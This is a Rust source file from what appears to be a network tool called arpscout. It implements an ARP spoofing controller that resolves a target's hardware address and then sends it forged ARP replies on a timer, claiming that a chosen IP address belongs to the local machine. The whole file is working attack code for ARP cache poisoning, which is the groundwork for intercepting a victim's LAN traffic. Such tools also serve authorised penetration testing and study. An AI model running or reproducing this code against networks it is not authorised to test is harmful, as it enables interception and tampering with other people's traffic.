//! The spoof controller.
//!
//! A [`SpoofController`] owns at most one [`SpoofSession`]. While the session
//! is running, [`SpoofController::tick`] emits a forged reply each time the
//! interval elapses, telling the target that `spoof_ip` lives at the local
//! hardware address. [`SpoofController::run`] drives ticks off a [`Clock`]
//! until the cancellation source fires or the link fails.

use std::fmt;
use std::net::Ipv4Addr;
use std::time::Duration;

use arpscout_common::cancel::CancelSource;
use arpscout_common::error::{EngineError, Result};
use arpscout_common::network::interface::LocalIdentity;
use arpscout_common::success;
use arpscout_protocols::ArpFrame;
use pnet::util::MacAddr;
use tracing::{debug, info, warn};

use crate::clock::{Clock, SystemClock};
use crate::link::{self, DatalinkHandle, FrameSender};
use crate::neighbors::{ArpCache, NeighborCache};

pub const DEFAULT_INTERVAL: Duration = Duration::from_millis(2000);

/// Upper bound on a single sleep while waiting for the next send, so that
/// cancellation is noticed promptly.
const POLL_SLICE: Duration = Duration::from_millis(100);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpoofOptions {
    pub interval: Duration,
    /// Address to claim. Defaults to the local address.
    pub spoof_ip: Option<Ipv4Addr>,
}

impl Default for SpoofOptions {
    fn default() -> Self {
        Self {
            interval: DEFAULT_INTERVAL,
            spoof_ip: None,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    Idle,
    Running,
    Stopped,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StopReason {
    Cancelled,
    TransmitFailed,
    Requested,
}

impl fmt::Display for StopReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let reason = match self {
            StopReason::Cancelled => "cancelled by operator",
            StopReason::TransmitFailed => "transmit failure",
            StopReason::Requested => "stopped",
        };
        f.write_str(reason)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpoofSession {
    pub target_ip: Ipv4Addr,
    pub target_hw: MacAddr,
    pub spoof_ip: Ipv4Addr,
    pub state: SessionState,
    pub sent: u64,
    next_due: Option<Duration>,
}

/// What a single [`SpoofController::tick`] did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TickOutcome {
    /// No session is running.
    Idle,
    Sent,
    /// Nothing due yet; the next send is this far away.
    Waiting(Duration),
    Stopped(StopReason),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpoofReport {
    pub target_ip: Ipv4Addr,
    pub spoof_ip: Ipv4Addr,
    pub sent: u64,
    pub reason: StopReason,
}

pub struct SpoofController {
    local_hw: MacAddr,
    local_ip: Ipv4Addr,
    options: SpoofOptions,
    session: Option<SpoofSession>,
    stop_reason: Option<StopReason>,
}

impl SpoofController {
    pub fn new(local_hw: MacAddr, local_ip: Ipv4Addr, options: SpoofOptions) -> Self {
        Self {
            local_hw,
            local_ip,
            options,
            session: None,
            stop_reason: None,
        }
    }

    pub fn session(&self) -> Option<&SpoofSession> {
        self.session.as_ref()
    }

    pub fn state(&self) -> SessionState {
        self.session.as_ref().map_or(SessionState::Idle, |s| s.state)
    }

    /// Starts a session against `target_ip`.
    ///
    /// Fails with [`EngineError::SessionActive`] while a session is running and
    /// with [`EngineError::UnresolvedTarget`] without a hardware address.
    /// Nothing is transmitted here; the first reply goes out on the next tick.
    pub fn start(&mut self, target_ip: Ipv4Addr, target_hw: Option<MacAddr>) -> Result<()> {
        if let Some(active) = self.session.as_ref().filter(|s| s.state == SessionState::Running) {
            warn!("Refusing to start: already spoofing {}", active.target_ip);
            return Err(EngineError::SessionActive(active.target_ip));
        }
        let target_hw: MacAddr = target_hw.ok_or(EngineError::UnresolvedTarget(target_ip))?;
        let spoof_ip: Ipv4Addr = self.options.spoof_ip.unwrap_or(self.local_ip);

        info!("Telling {target_ip} ({target_hw}) that {spoof_ip} is at {}", self.local_hw);
        self.session = Some(SpoofSession {
            target_ip,
            target_hw,
            spoof_ip,
            state: SessionState::Running,
            sent: 0,
            next_due: None,
        });
        self.stop_reason = None;
        Ok(())
    }

    /// Stops the running session. Calling it again has no effect.
    pub fn stop(&mut self) {
        self.halt(StopReason::Requested);
    }

    /// Polls `cancel` once, then sends a reply if one is due at `now`.
    pub fn tick(&mut self, now: Duration, link: &mut dyn FrameSender, cancel: &dyn CancelSource) -> TickOutcome {
        let Some(session) = self.session.as_mut() else {
            return TickOutcome::Idle;
        };
        if session.state != SessionState::Running {
            return self.stop_reason.map_or(TickOutcome::Idle, TickOutcome::Stopped);
        }

        if cancel.poll() {
            debug!("Cancellation observed after {} repl(ies)", session.sent);
            self.halt(StopReason::Cancelled);
            return TickOutcome::Stopped(StopReason::Cancelled);
        }

        let due: Duration = session.next_due.unwrap_or(now);
        if now < due {
            return TickOutcome::Waiting(due - now);
        }

        let frame = ArpFrame::reply(self.local_hw, session.spoof_ip, session.target_hw, session.target_ip);
        // Missed slots are dropped; the next send is one interval after this one.
        session.next_due = Some(now.max(due) + self.options.interval);

        match link::transmit(link, &frame) {
            Ok(()) => {
                session.sent += 1;
                TickOutcome::Sent
            }
            Err(e @ EngineError::AllocationError(_)) => {
                warn!("Skipped reply to {}: {e}", session.target_ip);
                TickOutcome::Waiting(self.options.interval)
            }
            Err(e) => {
                warn!("Stopping session against {}: {e}", session.target_ip);
                self.halt(StopReason::TransmitFailed);
                TickOutcome::Stopped(StopReason::TransmitFailed)
            }
        }
    }

    /// Ticks until the session stops, sleeping on `clock` in between.
    ///
    /// Fails with [`EngineError::NoSession`] if no session was started.
    pub fn run(&mut self, link: &mut dyn FrameSender, clock: &dyn Clock, cancel: &dyn CancelSource) -> Result<SpoofReport> {
        if self.session.is_none() {
            return Err(EngineError::NoSession);
        }
        let reason: StopReason = loop {
            match self.tick(clock.now(), link, cancel) {
                TickOutcome::Sent => {}
                TickOutcome::Waiting(remaining) => clock.sleep(remaining.min(POLL_SLICE)),
                TickOutcome::Stopped(reason) => break reason,
                TickOutcome::Idle => break StopReason::Requested,
            }
        };

        let session: &SpoofSession = self.session.as_ref().ok_or(EngineError::NoSession)?;
        Ok(SpoofReport {
            target_ip: session.target_ip,
            spoof_ip: session.spoof_ip,
            sent: session.sent,
            reason,
        })
    }

    fn halt(&mut self, reason: StopReason) {
        if let Some(session) = self.session.as_mut().filter(|s| s.state == SessionState::Running) {
            session.state = SessionState::Stopped;
            session.next_due = None;
            self.stop_reason = Some(reason);
            info!("Spoofing {} stopped ({reason}), {} repl(ies) sent", session.target_ip, session.sent);
        }
    }
}

/// How long [`resolve_hardware`] waits for the target to answer.
pub const RESOLVE_TIMEOUT: Duration = Duration::from_millis(1000);
const RESOLVE_POLL: Duration = Duration::from_millis(50);

/// Finds the hardware address of `target_ip`, asking the network if the cache
/// does not already know it.
pub fn resolve_hardware(
    identity: &LocalIdentity,
    target_ip: Ipv4Addr,
    link: &mut dyn FrameSender,
    cache: &dyn ArpCache,
    clock: &dyn Clock,
) -> Result<MacAddr> {
    if let Some(mac) = cache.lookup(target_ip) {
        return Ok(mac);
    }

    let request = ArpFrame::request(identity.mac, identity.ip(), target_ip);
    if let Err(e) = link::transmit(link, &request) {
        warn!("Failed to ask for {target_ip}: {e}");
    }

    let deadline: Duration = clock.now() + RESOLVE_TIMEOUT;
    while clock.now() < deadline {
        clock.sleep(RESOLVE_POLL);
        if let Some(mac) = cache.lookup(target_ip) {
            debug!("{target_ip} resolved to {mac}");
            return Ok(mac);
        }
    }
    Err(EngineError::UnresolvedTarget(target_ip))
}

/// Spoofs `target_ip` on the live interface until `cancel` fires.
///
/// The target's hardware address is resolved first when not supplied.
pub fn run_spoof(
    identity: &LocalIdentity,
    options: SpoofOptions,
    target_ip: Ipv4Addr,
    target_hw: Option<MacAddr>,
    cancel: &dyn CancelSource,
) -> Result<SpoofReport> {
    let mut link = DatalinkHandle::open(identity)?;
    let clock = SystemClock::new();

    let target_hw: MacAddr = match target_hw {
        Some(mac) => mac,
        None => {
            let cache = NeighborCache::new(link.neighbors());
            resolve_hardware(identity, target_ip, &mut link, &cache, &clock)?
        }
    };

    let mut controller = SpoofController::new(identity.mac, identity.ip(), options);
    controller.start(target_ip, Some(target_hw))?;
    let report = controller.run(&mut link, &clock, cancel)?;
    success!("Sent {} forged repl(ies) to {}", report.sent, report.target_ip);
    Ok(report)
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
